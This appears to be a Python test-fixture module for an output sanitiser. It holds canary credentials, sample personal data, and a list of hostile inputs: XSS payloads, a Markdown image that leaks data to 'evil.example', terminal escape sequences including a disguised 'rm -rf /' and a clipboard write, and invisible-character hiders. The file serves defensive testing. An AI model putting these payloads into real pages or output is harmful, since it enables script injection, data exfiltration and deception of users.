"""Secrets and personal data of no one, and readers of what was encoded."""

from __future__ import annotations

import html
import json
import re
from typing import TYPE_CHECKING

from markdown_it import MarkdownIt

if TYPE_CHECKING:
    from wilkc.runtime.guard.sanitising import Place

_KEY = "-----BEGIN EC PRIVATE KEY-----\nMHcCAQEEIOcanary\n-----END EC PRIVATE KEY-----"
SECRETS = {
    "password-in-url": "https://user:canary-password@db.example.com/x",
    "password-alone-in-url": "redis://:canary-password@10.0.0.5:6379/0",
    "aws-key": "AKIAIOSFODNN7EXAMPLE",
    "github-token": "ghp_" + "a1B2c3D4e5F6" * 3,
    "github-pat": "github_pat_" + "a1B2c3D4e5F6" * 3,
    "gitlab-token": "glpat-" + "a1B2c3D4e5F6" * 2,
    "slack-token": "xoxb-" + "123456789012-abcdef",
    "stripe-key": "sk_live_" + "a1B2c3D4e5F6" * 2,
    "google-key": "AIza" + "a1B2c3D" * 5,
    "model-key": "sk-ant-" + "a1B2c3D4e5F6" * 3,
    "npm-token": "npm_" + "a1B2c3D4e5F6" * 3,
    "jwt": "eyJhbGciOiJub25l.eyJzdWIiOiJjYW5hcnki.c2lnbmF0dXJl",
    "private-key": _KEY,
    "bearer": "Bearer canary0123456789abcdef",
    "bearer-of-two-blanks": "Bearer  canary0123456789abcdef",
    "wilk-credential": "wk_0123456789abcdef_" + "canary1" * 6 + "x",
    "pypi-token": "pypi-AgEIcHlwaS5vcmc" + "a1B2c3D4e5F6" * 3,
}
PERSONAL = {
    "mail": "canary@example.com",
    "phone": "+49 30 1234567",
    "card": "4111 1111 1111 1111",
    "iban": "DE89 3704 0044 0532 0130 00",
    "ssn": "123-45-6789",
}
EXECUTABLE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><iframe src=javascript:alert(1)>',
    "' onmouseover='alert(1)",
    "[x](javascript:alert(1))",
    "![x](https://evil.example/leak?d=1)",
    "<https://evil.example>",
    "[x]: https://evil.example\n\n[x]",
    "`code`\n```\nfence\n```",
    "# heading\n- list\n> quote\n1. one\n\n| a | b |\n|---|---|\n",
    "&lt;script&gt;&#60;b&#62;",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x1b[2J\x1b[1;1H$ rm -rf /",
    "\x90q\x9c\x9b0c",
    "</script><script>alert(1)//",
    "<!--\u2028alert(1)//-->",
    "\u202ecod.exe",
)
HIDING = ("\u200b", "\u2060", "\u00ad", "\x1b[0m", "\x00", "\ufe0f", "\x1b]0;x\x07", "\U000e0020")
_TAG = re.compile(r"<[^>]*>")


def joined(text: str, hider: str) -> str:
    """The text with something unseen between its characters."""
    return hider.join(text)


def rendered(shown: str) -> str:
    """The HTML that Markdown makes of a text."""
    page: str = MarkdownIt("gfm-like", {"linkify": False}).render(shown)
    return page


def opened(shown: str, place: Place) -> str:
    """What a person reads in its place."""
    if place == "html":
        return html.unescape(shown)
    if place == "json":
        text: str = json.loads(shown)
        return text
    if place == "markdown":
        return html.unescape(_TAG.sub("", rendered(shown).replace("</p>\n<p>", "\n\n"))).strip("\n")
    return shown
